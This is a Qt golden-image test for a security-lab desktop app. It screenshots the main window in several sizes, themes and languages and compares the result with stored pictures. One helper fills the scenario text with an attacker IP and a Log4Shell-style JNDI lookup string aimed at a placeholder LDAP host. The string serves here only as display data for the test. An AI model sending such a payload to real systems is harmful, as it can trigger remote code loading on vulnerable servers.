#include "desktop/consoleview.h"
#include "desktop/mainwindow.h"
#include "desktop/topologyscene.h"
#include "support_gui.h"
#include "support_lab.h"

#include <QApplication>
#include <QDir>
#include <QFontDatabase>
#include <QImage>
#include <QPainter>
#include <QTest>
#include <QTranslator>

using namespace sandtable;
using namespace sandtable::desktop;
using namespace sandtable::test;
using namespace Qt::StringLiterals;

namespace
{

// Pictures are compared at a third or a quarter of their size: small files, and single pixels of a glyph do
// not count.
constexpr int ComparedWidth = 800;
constexpr int ChannelTolerance = 40;      ///< of 255, for one pixel
constexpr double DifferenceLimit = 0.015; ///< share of the pixels that may be further off

QString goldenFile(const QString &name)
{
    return QStringLiteral(SANDTABLE_SOURCE_DIR) + u"/tests/desktop/golden/"_s + name + u".png"_s;
}

/// What differs in white; the share of pixels that do.
double difference(const QImage &one, const QImage &other, QImage &picture)
{
    picture = QImage(one.size(), QImage::Format_RGB32);
    picture.fill(Qt::black);
    qint64 off = 0;
    for (int y = 0; y < one.height(); ++y) {
        for (int x = 0; x < one.width(); ++x) {
            const QRgb a = one.pixel(x, y);
            const QRgb b = other.pixel(x, y);
            const int most = std::max({std::abs(qRed(a) - qRed(b)), std::abs(qGreen(a) - qGreen(b)),
                                       std::abs(qBlue(a) - qBlue(b))});
            if (most > ChannelTolerance) {
                ++off;
                picture.setPixel(x, y, qRgb(255, 255, 255));
            }
        }
    }
    return double(off) / (double(one.width()) * one.height());
}

/// The window, small, without what is never twice the same: times and ports in the journal, how far the
/// services are.
QImage picture(MainWindow &window)
{
    QPixmap grabbed = window.grab();
    QPainter painter(&grabbed);
    for (const QString &name : {u"journalPanel"_s, u"statusStrip"_s}) {
        if (const auto *part = window.findChild<QWidget *>(name))
            painter.fillRect(QRect(part->mapTo(&window, QPoint(0, 0)), part->size()), Qt::gray);
    }
    painter.end();
    return grabbed.toImage()
        .scaledToWidth(ComparedWidth, Qt::SmoothTransformation)
        .convertToFormat(QImage::Format_RGB32);
}

class NoLinks : public LinkOpener
{
public:
    void open(const QUrl &, Done done) override { done(QString()); }
};

} // namespace

/// A few pictures of the whole window. SANDTABLE_GOLDEN=renew takes what is drawn now as right; a picture
/// that differs is kept beside the test program together with what differs.
class GoldenTest : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void theWindowLooksAsItShould_data();
    void theWindowLooksAsItShould();

private:
    [[nodiscard]] static QList<scenario::Beat> story();
};

void GoldenTest::initTestCase()
{
    QFont font(u"DejaVu Sans"_s);
    if (!QFontDatabase::families().contains(font.family()))
        QSKIP("The pictures are drawn with DejaVu Sans, which is not installed here.");
    QApplication::setFont(font);
}

/// A story with the same facts each time.
QList<scenario::Beat> GoldenTest::story()
{
    QList<scenario::Beat> beats = classic().beats;
    for (scenario::Beat &beat : beats) {
        beat.text.replace(u"{{attacker_ip}}"_s, u"198.51.100.7"_s);
        beat.text.replace(u"{{payload}}"_s, u"${jndi:ldap://harbor.example/staff}"_s);
    }
    return beats;
}

void GoldenTest::theWindowLooksAsItShould_data()
{
    QTest::addColumn<QSize>("size");
    QTest::addColumn<QString>("theme");
    QTest::addColumn<QString>("language");
    QTest::newRow("window-1366-light-en") << QSize(1366, 768) << u"light"_s << u"en"_s;
    QTest::newRow("window-1366-dark-fr") << QSize(1366, 768) << u"dark"_s << u"fr"_s;
    QTest::newRow("window-3840-dark-en") << QSize(3840, 2160) << u"dark"_s << u"en"_s;
    QTest::newRow("window-3840-light-fr") << QSize(3840, 2160) << u"light"_s << u"fr"_s;
}

void GoldenTest::theWindowLooksAsItShould()
{
    QFETCH(QSize, size);
    QFETCH(QString, theme);
    QFETCH(QString, language);
    QTranslator translator;
    if (language != u"en") {
        const QString file = QFileInfo(QStringLiteral(SANDTABLE_PROGRAM))
                                 .dir()
                                 .filePath(u"../src/app/sandtable_%1.qm"_s.arg(language));
        QVERIFY2(translator.load(file), qPrintable(file));
        QCoreApplication::installTranslator(&translator);
    }
    QLocale::setDefault(QLocale(language == u"fr" ? u"fr_FR"_s : u"en_US"_s));

    QTemporaryDir folder;
    ScriptedTenant tenant;
    LabUnderTest lab(tenant, folder.path());
    session::Settings settings = lab.session().profiles().settings();
    settings.theme = theme;
    QVERIFY(QCoro::waitFor(lab.session().profiles().apply(settings)).has_value());
    SystemClock clock;
    scenario::ScenarioLibrary scenarios;
    NoLinks links;
    MainWindow window(MainWindow::Parts{lab.session(), scenarios, clock, testTheme(), links});
    window.resize(size);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QTRY_COMPARE(testTheme().scale(), Theme::scaleFor(size));
    for (const scenario::Beat &beat : story())
        window.view().showBeat(beat);
    window.view().topology().setIsolated({u"ws2"_s});
    window.view().topology().rebuild(story());
    QTRY_VERIFY(!window.view().topology().motion().isRunning());
    QCoreApplication::processEvents();

    const QImage drawn = picture(window);
    const QString name = QString::fromLatin1(QTest::currentDataTag());
    if (qEnvironmentVariable("SANDTABLE_GOLDEN") == u"renew") {
        QDir().mkpath(QFileInfo(goldenFile(name)).path());
        QVERIFY(drawn.save(goldenFile(name), "PNG", 0));
        QCoreApplication::removeTranslator(&translator);
        QSKIP("The picture has been renewed.");
    }
    const QImage golden = QImage(goldenFile(name)).convertToFormat(QImage::Format_RGB32);
    QVERIFY2(!golden.isNull(), "There is no such picture yet: SANDTABLE_GOLDEN=renew makes it.");
    QCOMPARE(drawn.size(), golden.size());
    QImage differs;
    const double share = difference(drawn, golden, differs);
    if (share > DifferenceLimit) {
        const QString kept = QCoreApplication::applicationDirPath() + u"/golden-"_s + name;
        drawn.save(kept + u"-drawn.png"_s);
        differs.save(kept + u"-differs.png"_s);
        QFAIL(
            qPrintable(u"%1 % of the pixels differ: %2-differs.png"_s.arg(100 * share, 0, 'f', 2).arg(kept)));
    }
    QCoreApplication::removeTranslator(&translator);
}

QTEST_MAIN(GoldenTest)
#include "tst_golden.moc"
